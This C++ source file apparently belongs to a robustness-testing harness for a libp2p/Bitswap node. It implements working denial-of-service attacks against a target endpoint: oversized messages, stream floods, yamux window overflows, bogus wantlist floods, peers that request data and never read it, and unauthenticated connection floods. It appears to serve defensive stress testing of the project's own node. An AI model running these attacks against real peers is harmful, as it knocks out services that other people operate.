// SPDX-License-Identifier: BSL-1.0
#include "attacks.hpp"

#include <array>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <exception>
#include <fstream>
#include <memory>
#include <random>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include <asio/io_context.hpp>

#include <shoal/content/cid.hpp>
#include <shoal/content/multihash.hpp>
#include <shoal/content/varint.hpp>
#include <shoal/exchange/bitswap_writer.hpp>
#include <shoal/libp2p/multistream.hpp>
#include <shoal/libp2p/yamux_frame.hpp>
#include <shoal/net/bitswap_streams.hpp>
#include <shoal/openssl/digester.hpp>

#include "raw_link.hpp"

namespace {

using namespace shoal::libp2p;
using bytes = std::vector<std::byte>;
using namespace std::chrono_literals;

void append(bytes& out, shoal::bytes_view more) {
  out.insert(out.end(), more.begin(), more.end());
}

void append_frame(bytes& out, const yamux_header& header) {
  out.resize(out.size() + yamux_header_size);
  put_yamux_header(out.data() + out.size() - yamux_header_size, header);
}

void append_data(bytes& out, std::uint32_t stream, shoal::bytes_view payload, std::uint16_t flags = 0) {
  append_frame(out, {.type = yamux_type::data,
                     .flags = flags,
                     .stream = stream,
                     .length = static_cast<std::uint32_t>(payload.size())});
  append(out, payload);
}

/// Opens a stream and says that it is for Bitswap.
void append_bitswap_stream(bytes& out, std::uint32_t stream) {
  bytes proposal;
  detail::append_multistream(proposal, multistream_header);
  detail::append_multistream(proposal, shoal::net::bitswap_protocol);
  append_data(out, stream, proposal, yamux_syn);
}

/// A message that wants blocks that nobody has.
bytes wantlist(std::mt19937_64& random, std::size_t wants) {
  shoal::exchange::bitswap_writer out;
  for (std::size_t i = 0; i < wants; ++i) {
    std::array<std::byte, 32> digest;
    for (std::byte& b : digest) b = static_cast<std::byte>(random());
    const shoal::cid id{shoal::multicodec::raw, *shoal::multihash::make(shoal::hash_code::sha2_256, digest)};
    out.add_want({.id = id, .send_dont_have = i % 2 == 0});
  }
  bytes message;
  for (const shoal::shared_bytes& piece : out.finish()) append(message, piece.bytes);
  return message;
}

/// Messages that say they are a gigabyte long, and ones that are nearly as long as they may be and never end,
/// on many streams at a time.
void oversized(const asio::ip::tcp::endpoint& victim) {
  int closed = 0;
  for (int round = 0; round < 40; ++round) {
    raw_link link{victim};
    bytes out;
    const std::uint64_t length = round % 2 == 0 ? 1u << 30 : (4u << 20) - 1;
    for (std::uint32_t i = 0; i < 64; ++i) {
      append_bitswap_stream(out, 2 * i + 1);
      bytes body;
      shoal::append_varint(body, length);
      body.resize(200u << 10);
      append_data(out, 2 * i + 1, body);
    }
    (void)link.send(out);
    closed += link.closes(500ms) ? 1 : 0;
  }
  std::printf("oversized: cut off %d of 40 times\n", closed);
}

/// Ten thousand streams, half of them with nothing said on them.
void streams(const asio::ip::tcp::endpoint& victim) {
  bool open = true;
  std::vector<std::unique_ptr<raw_link>> links;
  for (int round = 0; round < 4; ++round) {
    links.push_back(std::make_unique<raw_link>(victim));
    for (std::uint32_t i = 0; i < 10'000; ++i) {
      bytes out;
      if (i % 2 == 0) {
        append_bitswap_stream(out, 2 * i + 1);
      } else {
        append_frame(out, {.type = yamux_type::window_update, .flags = yamux_syn, .stream = 2 * i + 1});
      }
      open = links.back()->send(out) && open;
    }
  }
  for (const auto& link : links) open = !link->closes(500ms) && open;
  std::printf("streams: 4 times 10000 opened, %s\n", open ? "the rest of the connection goes on" : "cut off");
}

/// More data than the window allows, and windows past 2^32.
void window(const asio::ip::tcp::endpoint& victim) {
  int closed = 0;
  for (int round = 0; round < 40; ++round) {
    raw_link link{victim};
    bytes out;
    append_bitswap_stream(out, 1);
    if (round % 2 == 0) {
      append_frame(out, {.type = yamux_type::data, .stream = 1, .length = 0x7fff'ffff});
      out.resize(out.size() + (4u << 20));
    } else {
      for (int i = 0; i < 3; ++i) {
        append_frame(out, {.type = yamux_type::window_update, .stream = 1, .length = 0xffff'ff00});
      }
    }
    (void)link.send(out);
    closed += link.closes(2s) ? 1 : 0;
  }
  std::printf("window: cut off %d of 40 times\n", closed);
}

/// Wantlists without end. What the window allows is sent; what comes is not read, but for what makes room.
void wants(const asio::ip::tcp::endpoint& victim) {
  std::mt19937_64 random{1};
  std::size_t sent = 0;
  std::vector<std::unique_ptr<raw_link>> links;
  for (int peer = 0; peer < 8; ++peer) {
    links.push_back(std::make_unique<raw_link>(victim));
    for (std::uint32_t i = 0; i < 24; ++i) {
      bytes out;
      append_bitswap_stream(out, 2 * i + 1);
      for (int message = 0; message < 4; ++message) {
        append_data(out, 2 * i + 1, wantlist(random, 1000));
        sent += 1000;
      }
      if (!links.back()->send(out)) break;
    }
  }
  for (const auto& link : links) (void)link->closes(300ms);
  std::printf("wants: %zu blocks wanted that nobody has\n", sent);
}

/// Asks for every leaf of an image, as many peers, and reads none of the answers.
void deaf(const asio::ip::tcp::endpoint& victim, const std::string& image) {
  constexpr std::size_t leaf = 64u << 10;
  std::ifstream file{image, std::ios::binary};
  const shoal::openssl::digester digester;
  shoal::exchange::bitswap_writer out;
  for (bytes data(leaf); file.read(reinterpret_cast<char*>(data.data()), leaf);) {
    std::array<std::byte, 32> digest;
    if (digester.digest(shoal::hash_code::sha2_256, data, digest) != shoal::status::ok) return;
    const shoal::cid id{shoal::multicodec::raw, *shoal::multihash::make(shoal::hash_code::sha2_256, digest)};
    out.add_want({.id = id});
  }
  bytes message;
  append_bitswap_stream(message, 1);
  bytes body;
  for (const shoal::shared_bytes& piece : out.finish()) append(body, piece.bytes);
  append_data(message, 1, body);
  std::vector<std::unique_ptr<raw_link>> links;
  for (int i = 0; i < 60; ++i) {
    links.push_back(std::make_unique<raw_link>(victim));
    (void)links.back()->send(message);
  }
  std::this_thread::sleep_for(5s);
  std::printf("deaf: %zu peers asked for everything and read nothing\n", links.size());
}

/// People who are not on the list, and connections on which nobody says who he is.
void strangers(const asio::ip::tcp::endpoint& victim) {
  asio::io_context context;
  std::vector<asio::ip::tcp::socket> mute;
  int admitted = 0;
  for (int i = 0; i < 150; ++i) {
    mute.emplace_back(context).connect(victim);
    try {
      raw_link link{victim};
      admitted += link.hear(2s) ? 1 : 0;
    } catch (const std::exception&) {
      // it has heard who this is
    }
  }
  std::printf("strangers: %d of 150 were let in\n", admitted);
}

}  // namespace

bool attack(std::string_view kind, const asio::ip::tcp::endpoint& victim, const std::string& image) {
  if (kind == "oversized") return oversized(victim), true;
  if (kind == "streams") return streams(victim), true;
  if (kind == "window") return window(victim), true;
  if (kind == "wants") return wants(victim), true;
  if (kind == "deaf") return deaf(victim, image), true;
  if (kind == "strangers") return strangers(victim), true;
  return false;
}
